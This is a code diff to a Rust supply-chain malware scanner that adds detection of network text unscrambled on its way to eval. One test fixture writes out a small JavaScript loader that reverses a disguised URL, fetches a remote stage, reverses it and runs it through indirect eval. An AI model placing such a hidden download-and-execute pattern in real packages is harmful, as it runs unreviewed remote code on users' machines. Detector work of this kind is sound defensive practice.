@@ -42,7 +42,8 @@ diligence_finding::declare_rule! {
     /// fallback), are low. Browser module
     /// loaders (AMD, SystemJS: monaco-editor's `loader.js`) `fetch` the script URL they are asked to load and
     /// evaluate it; `eval`/`Function` of a `fetch` whose URL is a caller's parameter is not reported (a constant
-    /// URL, or a process spawn of network data, is). Hook managers (husky, simple-git-hooks, lefthook) write hooks
+    /// URL, a process spawn of network data, or text unscrambled on its way to `eval` — reversed, XORed,
+    /// decrypted, hex/char-code/base64-decoded — is). Hook managers (husky, simple-git-hooks, lefthook) write hooks
     /// that run the project's own commands, and docs generators write install instructions to Markdown: neither is
     /// a download written to a place that runs it. Code generators calling `Function` by name with template-built
     /// code, and wasm codecs whose data segments name no module and hold no command, are not decoded as hidden code.
@@ -86,6 +87,17 @@ fn runs_inline_code(command: &str) -> bool {
 }
 
 /// Paths from network data to code, commands and module loads; downloads written then run.
+/// Whether a path's data is unscrambled between the network and the sink: steps that undo an
+/// obfuscation (not parsing, concatenation or URL decoding, which loaders do).
+fn unscrambled(path: &crate::flow::FlowPath) -> bool {
+    path.steps.iter().any(|s| {
+        matches!(
+            s.what.as_str(),
+            "reversed" | "xor" | "decrypted" | "hex-decoded" | "char codes" | "base64-decoded"
+        )
+    })
+}
+
 fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
     let mut out = Vec::new();
     let sinks = [SinkKind::Eval, SinkKind::Require, SinkKind::Exec];
@@ -113,7 +125,15 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
             // imports the modules its server names.
             // …unless the code is handed Node's `require`: a browser loader never does that,
             // a remote-code loader (BeaverTail) does, whatever the URL.
-            _ if !constant_url && path.flags & flags::NODE_SCOPE == 0 => Severity::Low,
+            // …unless the fetched text is unscrambled on its way to `eval` (reversed, XORed,
+            // decrypted, hex/char-code/base64-decoded): a loader runs the script it was asked
+            // for as sent, a hidden stage (fezbox's reversed QR payload) is decoded first.
+            _ if !constant_url
+                && path.flags & flags::NODE_SCOPE == 0
+                && !(path.sink == SinkKind::Eval && unscrambled(path)) =>
+            {
+                Severity::Low
+            }
             SinkKind::Require => Severity::Medium,
             _ => Severity::Critical,
         };
@@ -827,6 +847,28 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
         assert_eq!(
             severity(&s, "code/download-exec"),
             Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A stage fetched from a URL handed in by the caller, unscrambled (reversed) and run with an
+    /// indirect `(0, eval)`: a loader never reverses the script it loads.
+    #[test]
+    fn positive_fetched_text_reversed_then_indirect_eval() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "get.js",
+                "module.exports = async function get(url) { const r = await fetch(url); return r.text(); };\n",
+            ),
+            (
+                "index.js",
+                "const get = require('./get');\nconst U = 'txt.egats/moc.elpmaxe//:sptth';\nsetTimeout(async () => { const t = await get(U.split('').reverse().join(''));\n  (0, eval)(t.split('').reverse().join('')); }, 1000);\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.file.as_str(), f.line, f.severity),
+            ("index.js", 4, diligence_finding::Severity::Critical)
         );
     }
 }
